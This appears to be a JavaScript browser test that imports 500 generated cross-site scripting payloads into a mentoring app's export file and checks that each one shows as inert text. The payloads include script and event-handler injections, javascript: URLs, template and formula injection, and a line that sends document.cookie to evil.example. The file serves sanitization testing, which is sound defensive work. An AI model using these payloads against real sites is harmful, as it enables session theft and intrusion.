// Text that was made to do harm stands in the page as the text that it is: 500 payloads through an import, none of them active.

import assert from "node:assert/strict";
import { test } from "node:test";
import { openApp, openBrowser, openSite } from "./harness.mjs";
import { openFile } from "./steps/book.mjs";
import { openSample } from "./steps/crawl.mjs";
import { openPart, openTab } from "./steps/page.mjs";

const id = (number) => `00000000-0000-4000-8000-${String(number).padStart(12, "0")}`;

/** What would run, wrapped in what would let it. */
const acts = ["window.hit=1", "fetch('//evil.example/'+document.cookie)", "top.hit=1", "window['h'+'it']=1", "parent.postMessage('hit','*')"];
const wraps = [
  (act) => `<script>${act}</script>`,
  (act) => `"><script>${act}</script>`,
  (act) => `</textarea><img src=x onerror="${act}">`,
  (act) => `<svg/onload=${act}>`,
  (act) => `<svg><script>${act}</script></svg>`,
  (act) => `<iframe srcdoc="<script>${act}</script>"></iframe>`,
  (act) => `<a href="javascript:${act}">x</a>`,
  (act) => `javascript:${act}`,
  (act) => `<details open ontoggle=${act}>`,
  (act) => `<body onload=${act}>`,
  (act) => `<math><mtext></table><mglyph><style><img src=x onerror=${act}>`,
  (act) => `{{constructor.constructor('${act}')()}}`,
  (act) => `\${${act}}`,
  (act) => `<style>@import '//evil.example/x.css';*{background:url(//evil.example/${act.length})}</style>`,
  (act) => `<meta http-equiv=refresh content="0;url=javascript:${act}">`,
  (act) => `<base href="//evil.example/"><form action="//evil.example"><button>${act}</button></form>`,
  (act) => `<template><script>${act}</script></template>`,
  (act) => `<!--><script>${act}</script>-->`,
  (act) => `=HYPERLINK("//evil.example","${act}")`,
  (act) => `\u202e<script>${act}</script>\u2066\u0000`,
];
const encodings = [
  (text) => text,
  (text) => text.toUpperCase(),
  (text) => text.replaceAll("<", "\u{ff1c}"),
  (text) => text.replaceAll("<", "&lt;"),
  (text) => text.split("").join("\u200b").slice(0, 400),
];
export const payloads = acts.flatMap((act) => wraps.flatMap((wrap) => encodings.map((encode) => encode(wrap(act)))));

/** An export with a group whose texts are all payloads. */
function hostileFile() {
  const group = id(100);
  const mentor = { id: id(1), code_name: payloads[0], full_name: payloads[1], note: payloads[2] };
  const notes = payloads.map((text, at) => ({ note: { id: id(1000 + at), group, on: "2021-09-07", text, about: "guidance" } }));
  const sessions = payloads.slice(0, 20).map((topic, at) => ({
    session: { id: id(5000 + at), group, topic, planned: { start: `2030-01-${String(at + 1).padStart(2, "0")}T10:00+00:00`, end: `2030-01-${String(at + 1).padStart(2, "0")}T11:00+00:00` } },
  }));
  const homes = {
    [`group-${group}`]: [{ group: { id: group, name: payloads[1], purpose: payloads[3], goals: payloads[5], packs: ["cmpc-policy"], mentor: mentor.id, contact_target: null, sample: false } }, ...notes, ...sessions],
    "people-01": [{ person: mentor }],
  };
  const standing = (record) => ({ revision: [id(999), 1], record });
  const segments = Object.entries(homes).map(([home, records]) => ({ schema: 2, home, records: records.map(standing) }));
  return JSON.stringify({ format: "circlebook-export", schema: 2, app: payloads[7], exported_at: "2023-01-09T10:00+00:00", segments });
}

test("500 hostile texts come in as texts and none is active", async (t) => {
  assert.equal(payloads.length, 500);
  const site = await openSite(t);
  const { page } = await openBrowser(t, site);
  await openSample(page, site.url);
  const elements = () => page.evaluate(() => document.querySelectorAll("script, iframe, img[src=x], base, svg[onload], [onerror], [onload], a[href^='javascript:']").length);
  const before = await elements();
  const inert = async () => {
    assert.equal(await elements(), before, page.url());
    assert.equal(await page.evaluate(() => window.hit), undefined);
  };
  await openFile(page, hostileFile());
  await page.getByRole("button", { name: "Take this in" }).click();
  await page.getByRole("status").getByText("The file was taken in.").waitFor();
  await inert();
  for (const part of ["Next", "Groups", "Hours", "Book"]) {
    await openPart(page, part);
    await inert();
  }
  await openApp(page, `${site.url}groups/${id(100)}`);
  for (const tab of ["Members", "Sessions", "Notes", "History", "Settings", "Overview"]) {
    await openTab(page, tab);
    await inert();
  }
  // All of them stand in the page, as texts, where the history tells what came in.
  await openTab(page, "History");
  await page.getByText(/^\d+ more lines?$/u).first().click();
  await page.getByText("window.hit=1").first().waitFor();
  const shown = await page.getByRole("main").evaluate((main) => main.textContent);
  const missing = payloads.filter((text) => !shown.includes(text));
  assert.deepEqual(missing, []);
  await inert();
  await page.emulateMedia({ media: "print" });
  await inert();
  assert.ok(page.url().startsWith(site.url));
  assert.doesNotMatch(await page.title(), /script|hit/u);
});
